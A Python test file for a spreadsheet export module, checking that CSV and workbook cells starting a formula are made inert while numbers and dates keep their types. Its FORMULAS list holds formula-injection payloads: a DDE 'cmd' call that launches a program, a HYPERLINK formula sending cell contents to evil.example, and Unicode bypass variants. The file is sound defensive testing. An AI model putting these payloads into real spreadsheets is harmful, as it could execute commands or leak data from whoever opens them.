"""No cell of a table is run as a formula by whoever opens it, and numbers stay numbers."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest

from core.exports import Sheet, csv_file, inert, workbook
from tests.reading import sheet_of

FORMULAS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "=",
        "-",
        "@",
    ),
    *(
        "\t=1",
        "\r=1",
        "\n=1",
        "\t1",
        "\r1",
        " =1",
        "  \t =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\u202e=1",
        "\u200b \u200b=1",
    ),
    *(
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(A1)",
        "\ufe661",
        "\ufe62\u0031x",
        "\u22121+1",
        "\u207a1x",
        "\x00=1",
        "\x1b=1",
    ),
    *("+49 171 1234567", "-2+3+cmd|' /C calc'!A0", "--1", "+-1", "-1e5", "-=1", "@import", "=\n1", "-.5", "=1\x00"),
]
HARMLESS = [
    *(
        "",
        "words",
        "a=b",
        "a@b.example",
        "1-2",
        "(=1)",
        "'=1",
        '"=1"',
        "#=1",
        "5",
        "-5",
        "+5",
        "-5.25",
        "007",
        "%=1",
        "é",
        "日本",
    ),
    *("two\nlines", "a\tb", "a,=1", "a;=1", 'a",=1', "½", "<b>", "|=1"),
]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_a_formula_gets_an_apostrophe(text):
    shown = read(csv_file(["column"], [[text]]))[1][0]
    assert shown[0] == "'"
    assert shown[1:] == text.replace("\x00", "").replace("\x1b", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_anything_else_stays_as_it_is(text):
    assert read(csv_file(["column"], [[text, "next"]])) == [["column"], [text, "next"]]


def test_a_header_is_made_inert_too():
    assert read(csv_file(["=1+1"], [])) == [["'=1+1"]]


def test_numbers_stand_bare_and_texts_in_quotes():
    rows = [[-5, 1.5, Decimal("-2.50"), "-5", "text", None, True]]
    assert csv_file(["a"], rows).decode("utf-8-sig") == '"a"\r\n-5,1.5,-2.50,"-5","text","","yes"\r\n'


def test_what_is_no_number_to_a_spreadsheet_is_text():
    assert csv_file([], [[float("-inf"), float("nan")]]).decode("utf-8-sig") == '\r\n"-inf","nan"\r\n'


def test_dates_and_moments_are_iso():
    rows = [[date(2024, 7, 1), time(9, 30), datetime(2024, 7, 1, 15, tzinfo=UTC)]]
    assert read(csv_file(["x"], rows))[1] == ["2024-07-01", "09:30:00", "2024-07-01T15:00:00+00:00"]


def test_a_cell_cannot_end_its_row():
    assert read(csv_file(["a", "b"], [['x"\r\n=1', "y"]])) == [["a", "b"], ['x"\r\n=1', "y"]]


def test_half_of_a_pair_is_left_out():
    assert inert("a\ud800b") == "ab"


# --- Workbooks ----------------------------------------------------------------------------------------------------------


def parts(*rows):
    book = zipfile.ZipFile(io.BytesIO(workbook([Sheet("One", ["a", "b"], rows)])))
    return {name: book.read(name).decode() for name in book.namelist() if name.endswith(".xml")}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_holds_texts_and_no_formulas(text):
    files = parts([text, "https://evil.example"])
    sheet = files["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert sheet.count('t="inlineStr"') == 4


def test_what_begins_a_formula_stays_a_text_when_the_cell_is_edited():
    sheet = parts(["=1+1", "words"])["xl/worksheets/sheet1.xml"]
    quoted, plain = re.findall(r'<c r="[AB]2" s="(\d)"', sheet)
    assert quoted != plain
    assert parts(["=1+1", "x"])["xl/styles.xml"].count('quotePrefix="1"') == 1


def test_numbers_dates_and_moments_are_what_they_are():
    sheet = parts([3, Decimal("2.5")], [date(2024, 5, 1), datetime(2024, 5, 1, 23, 59, tzinfo=UTC)])[
        "xl/worksheets/sheet1.xml"
    ]
    assert re.findall(r"<v>([^<]+)</v>", sheet) == ["3", "2.5", "45413", "45413.99930555555"]


def test_no_word_is_left_out_in_silence():
    sheet = parts(["x" * 40_000, None], [True, float("inf")])["xl/worksheets/sheet1.xml"]
    assert "cut: a cell holds no more" in sheet
    assert ">yes<" in sheet
    assert ">inf<" in sheet


def test_a_decimal_shows_the_decimals_that_it_has():
    """“3.0” on a page is not “3” in the workbook; whole and binary numbers show as they are."""
    values = [Decimal("3.0"), Decimal("2.50"), Decimal(7), 4, 1.5]
    book = workbook([Sheet("One", ["number"], [[value] for value in values])])
    assert [row[0] for row in sheet_of(book, 1)[1:]] == ["3.0", "2.50", "7", "4", "1.5"]
